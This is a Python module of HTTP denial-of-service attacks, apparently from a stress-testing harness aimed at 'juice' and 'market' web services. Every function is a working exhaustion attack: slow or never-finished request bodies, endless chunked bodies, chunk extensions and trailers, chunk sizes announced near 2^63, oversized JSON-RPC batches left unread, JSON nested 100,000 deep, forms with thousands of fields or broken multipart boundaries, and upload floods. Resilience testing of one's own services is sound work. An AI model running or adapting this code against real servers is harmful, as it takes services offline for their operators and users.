"""Attacks with bodies: slow ones, endless ones, such as are announced and do not come, and what is in them."""

import itertools
import json

from swarm import Swarm, again, once
from web_attacks import FORM, JSON, PARTS, attack, bearer, head, post

CHUNKED = "Transfer-Encoding: chunked"
ORDERS, RPC = "/api/juice/orders", "/rpc/juice"
TYPE = f"Content-Type: {JSON}"


def without_end(first, piece):
    """What `speak` is for connections that begin, and then say the same over and over."""
    return lambda: itertools.chain([first], itertools.repeat(piece))


@attack("connections", tested=False)
def slow_bodies(target, number):
    """Bodies of which a byte comes each 50 ms."""
    speak = without_end(head("POST", ORDERS, TYPE, "Content-Length: 100000"), b" ")
    return Swarm(target, number, 250, speak, pause=0.05).run().made


@attack("connections", tested=False)
def bodies_that_never_come(target, number):
    """Bodies as large as they may be are announced on 1 000 connections, and do not come."""
    fields = f"Content-Type: {PARTS}", "Content-Length: 8000000", bearer(target.tokens["stranger"])
    return Swarm(target, number, 500, once(head("POST", "/api/products", *fields))).run().made


@attack("connections")
def bodies_that_stop_before_their_end(target, number):
    """Bodies of a MiB without their last byte, on as many connections as there is memory for, and more."""
    body = head("POST", RPC, TYPE, "Content-Length: 1000000") + b" " * 999_999
    return Swarm(target, number, 300, once(body)).run().made


@attack("connections", services=("juice", "market"))
def forms_that_stop_before_their_end(target, number):
    """Forms with pictures of 7 MiB without their last byte."""
    fields = f"Content-Type: {PARTS}", "Content-Length: 7000000", bearer(target.tokens["stranger"]), *target.vendor_fields
    body = head("POST", "/api/products", *fields) + b"x" * 6_999_999
    return Swarm(target, number, 60, once(body)).run().made


@attack("connections", tested=False)
def bodies_that_are_expected_and_do_not_come(target, number):
    """Expect: 100-continue, and no body."""
    piece = head("POST", ORDERS, TYPE, "Content-Length: 100", "Expect: 100-continue")
    return Swarm(target, number, 500, once(piece)).run().made


@attack("MiB")
def endless_chunked_bodies(target, number):
    """Chunks of 64 KiB without an end."""
    speak = without_end(head("POST", RPC, TYPE, CHUNKED), b"10000\r\n" + b" " * 65_536 + b"\r\n")
    return Swarm(target, number, 50, speak).run().taken >> 20


@attack("MiB", tested=False)
def tiny_chunks(target, number):
    """A body in chunks of a byte each."""
    speak = without_end(head("POST", RPC, TYPE, CHUNKED), b"1\r\n \r\n" * 1_000)
    return Swarm(target, number, 20, speak).run().taken >> 20


@attack("MiB")
def endless_chunk_extensions(target, number):
    """A chunk whose extensions never end."""
    speak = without_end(head("POST", RPC, TYPE, CHUNKED) + b"1", b";name=value" * 1_000)
    return Swarm(target, number, 50, speak).run().taken >> 20


@attack("connections", tested=False)
def huge_chunks_announced(target, number):
    """Chunks that are said to have up to 2^63 bytes."""
    sizes = [b"7fffffffffffffff", b"ffffffffffffffff", b"80000000", b"1" * 40, b"0" * 1_000 + b"1"]
    pieces = itertools.cycle([head("POST", RPC, TYPE, CHUNKED) + size + b"\r\n" + b" " * 4_096 for size in sizes])
    return Swarm(target, number, 50, lambda: [next(pieces)], then="leave when answered").run().made


@attack("MiB", tested=False)
def endless_trailers(target, number):
    """Fields behind the last chunk, without an end."""
    speak = without_end(head("POST", RPC, TYPE, CHUNKED) + b"0\r\n", b"X-Trailer: " + b"x" * 1_000 + b"\r\n")
    return Swarm(target, number, 50, speak).run().taken >> 20


@attack("batches", tested=False)
def large_batches(target, number):
    """Batches of 256 requests in 25 KB, each with an answer that would fill one reply alone."""
    batch = [{"jsonrpc": "2.0", "id": place, "method": "rpc.discover", "params": {}} for place in range(256)]
    return Swarm(target, number, 4, again(post(RPC, json.dumps(batch).encode(), JSON))).run().sent


@attack("batches")
def large_batches_unread(target, number):
    """The same from callers who read no answer."""
    batch = [{"jsonrpc": "2.0", "id": place, "method": "rpc.discover", "params": {}} for place in range(256)]
    piece = post(RPC, json.dumps(batch).encode(), JSON)
    return Swarm(target, number, 16, again(piece), reads=0, receive_buffer=4_096).run().sent


@attack("texts")
def deep_texts(target, number):
    """JSON of 100 000 lists in each other."""
    pieces = [post(RPC, b"[" * 100_000, JSON), post(ORDERS, b'{"a":' * 50_000 + b"1" + b"}" * 50_000, JSON)]
    return Swarm(target, number, 20, again(*pieces)).run().sent


@attack("texts", tested=False)
def wide_texts(target, number):
    """JSON of 250 KB: a number of as many digits, as many members, as many escapes."""
    members = b"{" + b",".join(b'"%d":%d' % (place, place) for place in range(15_000)) + b"}"
    pieces = [post(ORDERS, text, JSON) for text in (b"1" * 250_000, members, b'"' + b"\\u0041" * 40_000 + b'"')]
    return Swarm(target, number, 10, again(*pieces)).run().sent


@attack("forms", tested=False)
def forms_of_many_fields(target, number):
    """Forms of 10 000 fields."""
    form = "&".join(f"f{place}={place}" for place in range(10_000)).encode()
    pieces = [post(path, form[:size], FORM) for path, size in (("/session", 4_000), ("/juice", 65_000), ("/market", 100_000))]
    return Swarm(target, number, 10, again(*pieces)).run().sent


def part(content, name="images"):
    return b'--edge\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (name.encode(), content)


def registrations(target, *bodies):
    fields = bearer(target.tokens["stranger"]), *target.vendor_fields
    return again(*(post("/api/products", body, PARTS, *fields) for body in bodies))


@attack("forms", services=("juice", "market"))
def forms_of_many_parts(target, number):
    """Forms of 10 000 parts, and one of a part with 10 000 fields."""
    many = part(b"") * 10_000 + b"--edge--\r\n"
    fields = b"--edge\r\n" + b"X: x\r\n" * 10_000 + b"\r\n\r\n--edge--\r\n"
    return Swarm(target, number, 10, registrations(target, many, fields)).run().sent


@attack("forms", services=("juice", "market"))
def forms_whose_parts_are_not_found(target, number):
    """Forms of 2 MiB: text before the first boundary, what looks like boundaries, and no last one."""
    size = 2_000_000
    before = b"x" * size + b"\r\n" + part(b"x") + b"--edge--\r\n"
    almost = part(b"x" + b"\r\n--edg" * (size // 7))[:-2]
    longer = part(b"x" + b"\r\n--edge-and-more" * (size // 17))[:-2]
    return Swarm(target, number, 6, registrations(target, before, almost, longer)).run().sent


@attack("registrations", services=("juice", "market"))
def floods_of_pictures(target, number):
    """Products with five pictures each, over the open-market API, as fast as they are taken."""
    form = {"name": "상품", "description": "아주 좋은 상품입니다.", "price": 1, "currency": "KRW", "stock": 1}
    params = part(json.dumps(form | {"secret": target.vendor["secret"]}).encode(), "params")
    body = params + part(target.picture) * 5 + b"--edge--\r\n"
    return Swarm(target, number, 4, registrations(target, body)).run().sent
